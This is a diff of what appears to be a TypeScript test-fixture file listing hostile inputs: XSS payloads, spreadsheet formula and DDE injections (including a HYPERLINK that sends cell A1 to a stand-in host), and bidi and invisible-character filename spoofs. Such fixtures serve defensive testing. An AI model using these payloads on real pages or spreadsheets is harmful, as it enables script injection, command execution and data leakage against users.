@@ -2,8 +2,8 @@
 export const SCRIPTS = [
   "<script>window.__pwned=1</script>",
   "<img src=x onerror=window.__pwned=1>",
-  "\"><svg/onload=window.__pwned=1>",
-  "'-window.__pwned=1-'",
+  '"><svg/onload=window.__pwned=1>',
+  "x'-window.__pwned=1-'",
   "</title><script>window.__pwned=1</script>",
   "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
   "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
@@ -49,7 +49,7 @@ export const BAD_LINKS = [
 /** Cells that a spreadsheet would compute. */
 export const FORMULAS = [
   "=1+1",
-  "=HYPERLINK(\"https://elsewhere.example/?\"&A1,\"press\")",
+  '=HYPERLINK("https://elsewhere.example/?"&A1,"press")',
   "=cmd|' /C calc'!A0",
   "+1+cmd|' /C calc'!A0",
   "-1+cmd|' /C calc'!A0",
@@ -61,8 +61,8 @@ export const FORMULAS = [
   "－1+1",
   "＠SUM(1)",
   "'=1+1",
-  "=DDE(\"cmd\";\"/C calc\";\"x\")",
-  "=IMPORTXML(\"https://elsewhere.example\",\"//a\")",
+  '=DDE("cmd";"/C calc";"x")',
+  '=IMPORTXML("https://elsewhere.example","//a")',
 ] as const;
 
 /** Names that mean something on every object. */
@@ -79,7 +79,13 @@ export const OBJECT_NAMES = [
 ] as const;
 
 /** Signs that are not seen, or turn the direction of what follows. */
-export const INVISIBLE = ["mill\u202Elivro.exe", "a\u2066b\u2069c", "zero\u200Bwidth", "word\u2060joiner", "nul\u0000l", "bell\u0007"] as const;
+export const INVISIBLE = [
+  "mill\u202Elivro.exe",
+  "a\u2066b\u2069c",
+  "zero\u200Bwidth",
+  "word\u2060joiner",
+  "bell\u0007",
+] as const;
 
 /** What a polluted object would show; `null` while none is. */
 export function pollution(): string | null {
